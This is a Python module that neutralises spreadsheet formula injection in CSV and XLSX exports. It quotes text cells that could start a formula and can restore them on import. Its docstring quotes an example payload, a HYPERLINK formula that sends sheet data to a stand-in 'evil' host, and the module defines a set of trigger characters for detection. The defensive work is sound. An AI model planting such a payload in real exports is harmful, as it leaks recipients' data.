"""Every CSV and XLSX file SMRC writes goes through this module, so no cell can start a spreadsheet formula.

A spreadsheet opening a file runs any text cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
tab, carriage return or their full-width forms) as a formula: ``=HYPERLINK("https://evil/?"&A1)`` in a
customer's name leaks the sheet when a brand manager opens the export. OWASP's answer, applied here to text
cells only (numbers stay numbers, so ``-3`` in a numeric column is still a number):

* CSV: a text cell that starts with a trigger character, also after leading whitespace, invisible format
  characters or single quotes, gets a single quote in front (``'=HYPERLINK(…)``). :func:`restore` undoes
  exactly that, for imports of our own exports (the knowledge CSV round trip).
* XLSX: every text cell is written as a string (never ``t="f"`` or ``t="e"``, which openpyxl would infer from a
  leading ``=`` or ``#N/A``); the same cells get Excel's ``quotePrefix`` style, the file format's own form of
  the typed leading quote, so the text reads exactly as stored and stays text when edited.

The rule is one function, :func:`is_formula_like`; docs/security.md ("Output: exports and headers").
"""

import csv
import io
import unicodedata
from collections.abc import Iterable, Iterator
from typing import Any

#: characters a spreadsheet may read as the start of a formula (OWASP CSV injection, plus NUL and line feed
#: from ASVS 1.2.10): ASCII = + - @ tab CR LF NUL, and the full-width = + - @.
TRIGGERS = frozenset("=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"
#: what may precede a trigger without disarming it: spaces, other control and invisible format characters.
_SKIPPED_CATEGORIES = frozenset({"Zs", "Zl", "Zp", "Cc", "Cf"})


def is_formula_like(text: str) -> bool:
    """True when ``text`` starts, after any single quotes and blank or invisible characters, with a trigger.

    Leading quotes count so that :func:`neutralise` is reversible: ``'=x`` (typed so by someone) is written as
    ``''=x`` and read back as ``'=x``, never confused with our own prefix."""
    i, n = 0, len(text)
    while i < n and text[i] == QUOTE:
        i += 1
    while i < n and text[i] not in TRIGGERS and unicodedata.category(text[i]) in _SKIPPED_CATEGORIES:
        i += 1
    return i < n and text[i] in TRIGGERS


def neutralise(value: Any) -> Any:
    """A CSV cell: text that could start a formula gets a single quote in front; anything else is unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The text a CSV cell written by :func:`neutralise` stood for (for imports); other text is unchanged."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        return text[1:]
    return text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """CSV text one line at a time (for ``StreamingHttpResponse``): CRLF line ends, None as an empty field,
    every cell through :func:`neutralise`."""
    writer = csv.writer(_Echo(), lineterminator="\r\n")
    yield writer.writerow([neutralise(v) for v in header])
    for row in rows:
        yield writer.writerow(["" if v is None else neutralise(v) for v in row])


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> str:
    return "".join(csv_lines(header, rows))


def _xlsx_cell(sheet, value: Any):
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value == "":
        return WriteOnlyCell(sheet, value=None)  # an empty cell, as None is
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=value)
    # XML 1.0 cannot hold most C0 control characters; openpyxl refuses them. They show as U+FFFD.
    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"  # never a formula ("=…") or an error value ("#N/A")
    if is_formula_like(text):
        cell.quotePrefix = True
    return cell


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[str], Iterable[Iterable[Any]]]]) -> bytes:
    """An XLSX workbook of ``(title, header, rows)`` sheets, written row by row (openpyxl write-only mode).
    Text is always a string cell; see the module docstring."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = book.create_sheet(title=title[:31])
        sheet.append([_xlsx_cell(sheet, v) for v in header])
        for row in rows:
            sheet.append([_xlsx_cell(sheet, v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
